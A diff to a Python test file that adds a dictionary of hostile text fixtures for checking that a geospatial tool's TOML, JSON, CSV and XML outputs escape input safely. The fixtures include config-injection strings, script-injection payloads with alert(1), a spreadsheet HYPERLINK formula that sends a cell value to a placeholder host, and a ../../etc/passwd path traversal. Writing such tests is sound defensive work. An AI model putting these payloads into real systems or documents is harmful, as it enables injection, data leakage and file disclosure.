@@ -105,3 +105,25 @@ def geometries(draw):
 
 FUZZ = settings(max_examples=25, deadline=None, derandomize=True,
                 suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+
+
+# --- hostile text ---------------------------------------------------------------------------
+
+#: Text a planner's file or a station table may hold, that must stay text in every file
+#: geozones writes: ``{label: (text, as XML/HTML hold it)}``. The second is worked out by
+#: hand from XML 1.0's ``Char`` production (no NUL, no C0 control but tab and line feed, no
+#: U+FFFE/U+FFFF: each becomes U+FFFD) and its end-of-line rule (CR LF and CR read as LF);
+#: TOML, JSON and CSV keep the first exactly. No text starts or ends with a space (the station
+#: table strips cells).
+HOSTILE_TEXT: dict[str, tuple[str, str]] = {
+    "line break and a key": ("A\nbuildings.storey_height_m = 0.5", "A\nbuildings.storey_height_m = 0.5"),
+    "a table header": ('x"\n[[rules]]\nid = "evil"', 'x"\n[[rules]]\nid = "evil"'),
+    "quotes": ('say "hi" \'there\' """ \'\'\' end', 'say "hi" \'there\' """ \'\'\' end'),
+    "CDATA end and a script": ("]]></script><script>alert(1)</script><!--", "]]></script><script>alert(1)</script><!--"),
+    "NUL and controls": ("NUL\x00 SOH\x01 VT\x0b US\x1f DEL\x7f tab\tend", "NUL\ufffd SOH\ufffd VT\ufffd US\ufffd DEL\x7f tab\tend"),
+    "carriage returns": ("CRLF\r\nCR\rend", "CRLF\nCR\nend"),
+    "non-BMP and separators": ("𠀀😀 LS\u2028 PS\u2029 nonchar\ufffe end", "𠀀😀 LS\u2028 PS\u2029 nonchar\ufffd end"),
+    "template, backslash, entity": ("${alert(1)} `tick` back\\slash &amp; &#0;", "${alert(1)} `tick` back\\slash &amp; &#0;"),
+    "a formula": ('=HYPERLINK("http://x.invalid/?"&A1,"see")', '=HYPERLINK("http://x.invalid/?"&A1,"see")'),
+    "a path": ("../../etc/passwd", "../../etc/passwd"),
+}
